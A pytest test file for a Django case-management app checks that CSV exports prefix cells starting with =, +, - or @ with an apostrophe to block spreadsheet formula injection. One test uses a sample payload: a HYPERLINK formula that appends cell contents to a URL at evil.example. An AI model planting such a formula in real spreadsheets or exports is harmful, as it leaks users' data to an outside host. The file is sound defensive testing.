"""CSV exports prefix cells that start with = + - @ (or tab/CR) with an apostrophe, so a
case titled =HYPERLINK(…) is text in Excel, not a formula."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from tests.security.conftest import make_case
from tongxin.security.csvsafe import safe_cell

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(("raw", "safe"), [
    ("=1+1", "'=1+1"), ("+86", "'+86"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=x", "'\t=x"), ("路灯", "路灯"), (12, "12"), (None, ""),
])
def test_safe_cell(raw, safe):
    assert safe_cell(raw) == safe


def test_case_export_neutralises_a_formula_title(world):
    make_case(world, title='=HYPERLINK("http://evil.example/?"&A1,"click")')
    client = Client()
    client.force_login(world.user("dispatcher"))
    body = client.get(reverse("workbench:case_export"), {"queue": "all"}).content
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[1][1].startswith("'=HYPERLINK")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
